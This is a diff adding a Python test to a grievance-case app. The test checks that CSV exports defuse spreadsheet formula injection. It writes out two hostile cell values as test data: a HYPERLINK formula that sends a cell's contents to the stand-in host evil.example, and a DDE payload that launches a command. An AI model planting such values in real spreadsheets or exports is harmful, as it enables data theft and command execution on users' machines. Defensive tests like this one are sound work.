@@ -156,3 +156,39 @@ def test_time_frames_kept_and_site_alerts_are_reported(app: Flask, runtime: Runt
     assert (
         measures["Site alerts raised (3 or more similar cases at one site in 30 days)"].value == "1"
     )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sunrise")'
+
+
+def test_names_that_a_spreadsheet_would_run_are_exported_as_text(
+    app: Flask, runtime: Runtime
+) -> None:
+    from sqlalchemy import update
+
+    from grievance.models import Site
+    from grievance.services.exports import write_cases
+
+    now = utcnow()
+    create_demo(runtime, now=now)
+    with runtime.sessions() as session:
+        supplier = session.scalars(
+            select(Organisation).where(Organisation.kind == "supplier").order_by(Organisation.id)
+        ).first()
+        supplier.name = FORMULA
+        session.execute(update(Site).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
+        session.commit()
+    table = rows_of(
+        handler(app, runtime)
+        .get(f"/reports/export.csv?by=supplier&{long_period(now).query}")
+        .get_data(as_text=True)
+    )
+    names = [row[0] for row in table[1:-1]]
+    assert "'" + FORMULA in names  # an apostrophe first: text, not a formula
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+    out = io.StringIO()
+    with runtime.sessions() as session:
+        write_cases(session, out, date(2000, 1, 1), date(2100, 1, 1))
+    cells = [cell for row in rows_of(out.getvalue())[1:] for cell in row]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
